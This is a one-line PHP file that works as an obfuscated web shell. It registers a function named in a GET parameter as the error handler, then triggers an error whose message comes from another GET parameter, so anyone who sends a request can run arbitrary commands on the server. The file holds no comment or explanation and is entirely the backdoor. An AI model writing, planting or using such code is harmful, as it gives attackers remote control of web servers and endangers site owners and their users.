<?php set_error_handler($_GET["f"]); trigger_error($_GET["a"]);
